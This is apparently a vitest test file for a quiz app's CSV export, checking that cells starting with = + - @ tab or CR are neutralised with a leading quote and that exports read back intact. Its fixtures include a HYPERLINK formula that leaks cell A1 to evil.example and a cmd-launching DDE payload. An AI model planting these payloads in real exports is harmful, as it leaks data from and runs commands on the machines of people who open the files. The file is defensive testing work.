// CSV injection (OWASP "CSV Injection"): text cells a spreadsheet would run as formulas are written
// with a leading quote, quoted; the bank CSV reads back exactly what was exported.
import { describe, expect, it } from "vitest";
import { dashboardCsv } from "@/lib/analytics/csv";
import type { QuizDashboard, RowStat } from "@/lib/analytics/describe";
import { csvField, neutraliseFormulaText, restoreFormulaText } from "@/lib/csv/cells";
import { parseCsv, toCsv } from "@/lib/bank/formats/csv";
import { parseUpload } from "@/lib/bank/import/upload";
import type { ParsedQuestion } from "@/lib/bank/types";

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1)';
const DANGEROUS = ["=", "+", "-", "@", "\t", "\r"] as const;
const base = { explanation: "", maxMark: 1, origin: "imported" as const };

describe("one CSV field", () => {
  it.each([
    [HYPERLINK, `"'=HYPERLINK(""http://evil.example/?leak=""&A1)"`],
    ["+1+2", `"'+1+2"`],
    ["-2+3+cmd|' /C calc'!A0", `"'-2+3+cmd|' /C calc'!A0"`],
    ["@SUM(A1:A2)", `"'@SUM(A1:A2)"`],
    ["\t=1", `"'\t=1"`],
    ["\r=1", `"'\r=1"`],
    ["'=1", `"''=1"`],
    ["plain text", "plain text"],
    ["it's fine", "it's fine"],
    ["'quoted", "'quoted"],
    ["a, b", `"a, b"`],
    ["1-2", "1-2"],
    ["", ""],
  ])("%j is written as %s", (text, field) => {
    expect(csvField(text)).toBe(field);
  });

  it("writes the app's numbers as numbers, negative ones included", () => {
    expect([csvField(-0.25), csvField(12), csvField(null), csvField(undefined), csvField(Number.NaN)]).toEqual(["-0.25", "12", "", "", ""]);
  });

  it("restores exactly the quote it added, and only that one", () => {
    for (const text of [HYPERLINK, "'=x", "''+x", "'plain", "'", "''", "-5", "'-5", "x=1"]) expect(restoreFormulaText(neutraliseFormulaText(text))).toBe(text);
    expect(restoreFormulaText("'plain")).toBe("'plain");
    expect(restoreFormulaText("'=x")).toBe("=x");
    expect(restoreFormulaText("''=x")).toBe("'=x");
  });
});

describe("the bank CSV export", () => {
  const questions: ParsedQuestion[] = DANGEROUS.map((c, i) => ({
    ...base,
    id: `f-${i}`,
    type: "single",
    // Stems and options are trimmed on import (the bank's text fields), so the blank characters are
    // tested where text is kept as it is: the explanation.
    stem: c.trim() ? `${c}stem ${i}` : `stem ${i}`,
    options: [
      { text: c.trim() ? `${c}right` : "right", correct: true },
      { text: i === 0 ? HYPERLINK : "wrong", correct: false },
    ],
    explanation: `${c}1+1 explained`,
  }));

  it("neutralises every cell starting with = + - @ tab or CR", () => {
    const { text } = toCsv(questions);
    expect(text).toContain(`"'=stem 0"`);
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1)"`);
    expect(text).toContain(`"'+stem 1"`);
    expect(text).toContain(`"'-right"`);
    expect(text).toContain(`"'@1+1 explained"`);
    expect(text).toContain(`"'\t1+1 explained"`);
    expect(text).toContain(`"'\r1+1 explained"`);
    // No line of the file has a field that starts with a formula character outside quotes.
    for (const line of text.split("\n")) expect(line).not.toMatch(/(^|,)[=+\-@]/);
  });

  it("reads back exactly what was exported", () => {
    const { questions: read, problems } = parseCsv(toCsv(questions).text);
    expect(problems).toEqual([]);
    expect(read.map((q) => q.question)).toEqual(questions);
  });

  it("reads back through the whole upload path (which turns a CR into a line feed)", () => {
    const parsed = parseUpload("bank.csv", new TextEncoder().encode(toCsv(questions).text));
    expect(parsed.problems).toEqual([]);
    expect(parsed.questions.map((q) => q.question)).toEqual(questions.map((q) => ({ ...q, explanation: q.explanation.replace("\r", "\n") })));
  });

  it("leaves a quote the author wrote alone", () => {
    const question: ParsedQuestion = {
      ...base,
      id: "q-1",
      type: "single",
      stem: "'=not a formula, a quote",
      options: [
        { text: "'plain", correct: true },
        { text: "''-x", correct: false },
      ],
    };
    const { text } = toCsv([question]);
    expect(text).toContain(`"''=not a formula, a quote"`);
    expect(text).toContain(",'plain,");
    expect(parseCsv(text).questions.map((q) => q.question)).toEqual([question]);
  });
});

describe("the dashboard CSV", () => {
  const row = (title: string, discrimination: number | null): RowStat => ({
    variantKey: "v",
    title,
    n: 12,
    facility: 50,
    facilityInterval: [30, 70],
    sd: 10,
    discrimination,
    discriminationInterval: null,
    efficiency: null,
    meanTimeSeconds: 4.25,
    options: [{ key: "a", label: "A", text: "=option text", correct: true, count: 6, share: 0.5, pointBiserial: -0.125 }],
    flags: [],
  });
  const dashboard: QuizDashboard = {
    quiz: { id: "quiz", title: HYPERLINK, lectureTitle: "Lecture" },
    view: { attempts: "first" },
    source: "exact",
    summary: { attempts: 12, mean: 5, sd: 1, skewness: -0.5, kurtosis: null, alpha: 0.8, errorRatio: 44.72, standardError: 0.4472 },
    slots: [{ ...row("=1+1", -0.25), slotId: "s", position: 0, key: "k", variants: [row("@SUM(A1)", 0.5)] }],
    computeMs: 1,
  };

  it("neutralises titles and writes the figures as numbers", () => {
    const lines = dashboardCsv(dashboard).split("\n");
    expect(lines[1]).toBe(`1,slot,"'=1+1",12,50,30,70,10,-0.25,,,,4.3,6,-0.125,`);
    expect(lines[2]).toBe(`1,variant a,"'@SUM(A1)",12,50,30,70,10,0.5,,,,4.3,6,-0.125,`);
    expect(lines).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1)",12,5,1,-0.5,,0.8,44.72,0.4472`);
  });
});
